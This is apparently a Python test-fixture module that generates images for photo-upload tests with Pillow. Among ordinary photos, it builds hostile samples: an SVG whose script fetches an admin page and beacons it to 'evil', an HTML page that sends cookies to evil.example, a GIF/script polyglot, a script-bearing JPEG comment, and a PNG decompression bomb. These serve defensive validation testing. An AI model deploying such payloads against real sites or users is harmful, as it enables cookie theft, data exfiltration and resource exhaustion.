"""Real image files for the photo tests, good and bad, made with Pillow (no fixtures on disk)."""

import io
import struct
import zlib

from PIL import ExifTags, Image

RED, BLUE = (220, 20, 20), (20, 40, 220)


def halves(width, height, mode="RGB"):
    """Left half red, right half blue: shows which way a photo was turned."""
    image = Image.new(mode, (width, height), BLUE)
    image.paste(RED, (0, 0, width // 2, height))
    return image


def camera_exif(orientation=1):
    """EXIF as a phone writes it: orientation, camera make and model, and a GPS position."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "NewsCam"
    exif[ExifTags.Base.Model] = "Harbour Pro 12"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (51.0, 30.0, 12.5),
        ExifTags.GPS.GPSLongitudeRef: "W",
        ExifTags.GPS.GPSLongitude: (3.0, 10.0, 45.0),
    }
    return exif


def encode(image, fmt, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def jpeg_bytes(width=320, height=180, color=(40, 90, 160)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, "JPEG", quality=85)
    return buffer.getvalue()


def photo_bytes(fmt="JPEG", width=1000, height=750, orientation=1) -> bytes:
    """A photo in `fmt` carrying camera EXIF with GPS (GIF cannot hold EXIF)."""
    image = halves(width, height)
    if fmt == "GIF":
        return encode(image.convert("P"), "GIF")
    options = {"exif": camera_exif(orientation)}
    if fmt == "PNG":
        return encode(image, "PNG", **options)
    return encode(image, fmt, quality=90, **options)


def noisy_jpeg(width=640, height=480) -> bytes:
    return encode(Image.effect_noise((width, height), 60).convert("RGB"), "JPEG", quality=90)


def truncated_jpeg() -> bytes:
    data = noisy_jpeg()
    return data[: len(data) // 2]


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width=100_000, height=100_000) -> bytes:
    """A few hundred bytes of PNG whose header claims 10 gigapixels: 30 GB once decoded."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * (1 + 3 * 1000) * 10, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header is edited to claim `width` × `height` pixels."""
    data = bytearray(encode(Image.new("RGB", (64, 48), BLUE), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


SVG_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>
  <rect width="100" height="100" fill="red"/>
</svg>
"""

HTML_PAGE = b"""<!DOCTYPE html>
<html><head><title>Photo</title></head>
<body><script>document.location = 'https://evil.example/?c=' + document.cookie</script></body>
</html>
"""

MEETING_NOTES = b"Agenda for Tuesday:\n1. Harbour wall budget\n2. Ferry timetable\n"


def gif_polyglot() -> bytes:
    """A valid GIF that is also a script: the classic GIFAR-style smuggling trick."""
    return encode(halves(40, 30).convert("P"), "GIF") + b"<script>alert(document.cookie)</script>"


def jpeg_with_html_comment() -> bytes:
    return encode(halves(120, 90), "JPEG", comment=b"<html><body><script>alert(1)</script>")
